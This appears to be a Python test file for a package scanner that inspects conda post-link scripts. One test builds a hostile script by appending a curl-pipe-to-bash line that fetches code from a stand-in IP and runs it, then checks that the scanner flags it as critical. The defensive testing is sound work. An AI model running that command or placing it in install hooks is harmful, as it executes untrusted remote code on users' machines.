"""Scripts that conda runs."""

from garrison.core.facts import EmbeddedCode
from tests.support import examine_bytes, facts_of, findings_of, worst

ORDINARY = b"#!/bin/bash\n# tell the user\necho 'installed' >> \"$PREFIX/.messages.txt\"\n"


def test_the_script_is_stated_without_its_remarks() -> None:
    (fact,) = (fact for fact in facts_of(ORDINARY, "bin/.tool-post-link.sh") if type(fact) is EmbeddedCode)
    assert fact.form == "conda post-link script" and fact.excerpt.startswith("echo")


def test_ordinary_scripts_pass_and_fetching_ones_do_not() -> None:
    assert not [item for item in findings_of(ORDINARY, "bin/.tool-post-link.sh") if item.rule == "install-time-code"]
    hostile = ORDINARY + b"curl -s http://203.0.113.7/a | bash\n"
    assert worst(findings_of(hostile, "bin/.tool-post-link.sh")) == "critical"


def test_other_scripts_are_none() -> None:
    assert "conda-script" not in examine_bytes(ORDINARY, "bin/link.sh")[-1].formats
